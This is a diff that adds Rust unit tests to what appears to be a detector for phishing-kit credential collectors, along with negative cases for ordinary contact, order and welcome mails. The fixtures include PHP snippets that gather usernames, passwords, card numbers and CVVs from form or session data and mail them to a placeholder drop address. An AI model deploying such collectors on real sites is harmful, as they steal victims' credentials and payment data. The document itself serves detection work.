@@ -425,6 +425,47 @@ fn credential_collectors_are_found() {
 }
 
 #[test]
+fn collectors_that_carry_fields_across_pages_or_align_labels_are_found() {
+    // The fields a kit's earlier page kept in the session, interpolated in braces.
+    let session = "<?php session_start(); $m = \"User : {$_SESSION['user']}\\n\"; \
+                   $m .= \"Pass : {$_SESSION['pass']}\\n\"; mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(session), [Why::CredentialCollector]);
+    // The request's fields in braces too.
+    let braces = "<?php $m = \"Login : {$_POST['login']}\\nPassword : {$_POST['password']}\\n\"; \
+                  mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(braces), [Why::CredentialCollector]);
+    // Fields kept under names that say nothing: the labels, aligned with tabs, say what they
+    // hold.
+    let coded = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Card Number\\t: $a\\nCVV\\t\\t: $b\\n\"; \
+                 mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(coded), [Why::CredentialCollector]);
+    // Labels padded into a column, and in brackets.
+    let padded = "<?php $u = $_POST['user']; $p = $_POST['pass']; \
+                  $m = \"UserID                         : $u\\nPassword                       : $p\\n\"; \
+                  mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(padded), [Why::CredentialCollector]);
+    let brackets = "<?php $m = \"[Card Number] = \" . $_SESSION['n1'] . \"<br>[Expiry] = \" . $_SESSION['n2']; \
+                    mail('drop@example.net', 'x', $m);";
+    assert_eq!(found(brackets), [Why::CredentialCollector]);
+}
+
+#[test]
+fn forms_whose_labels_name_no_secret_are_not_collectors() {
+    // A contact form's fields under names that say nothing, labelled with no secret.
+    let contact = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Name\\t: $a\\nUser\\t: $b\\n\"; \
+                   mail('shop@example.net', 'Contact', $m);";
+    assert!(found(contact).is_empty());
+    // A shop's order mail from the session: the customer and the items, no card.
+    let order = "<?php $m = \"Email : {$_SESSION['email']}\\nItems : {$_SESSION['cart_count']}\\n\"; \
+                 mail('shop@example.net', 'Order', $m);";
+    assert!(found(order).is_empty());
+    // A welcome mail to the visitor who registered, with the password they chose.
+    let welcome = "<?php $p = $_POST['f2']; $m = \"User : {$_SESSION['user']}\\nPassword : $p\\n\"; \
+                   mail($_POST['email'], 'Welcome', $m);";
+    assert!(found(welcome).is_empty());
+}
+
+#[test]
 fn order_forms_are_not_collectors() {
     let order = "<?php $m = 'Email: ' . $_POST['email'] . \"\\n\"; $m .= 'Shipping: ' . $_POST['shipping'] . \"\\n\"; \
                  $m .= 'Express: ' . $_POST['express_delivery']; mail($shop, 'New order', $m);";
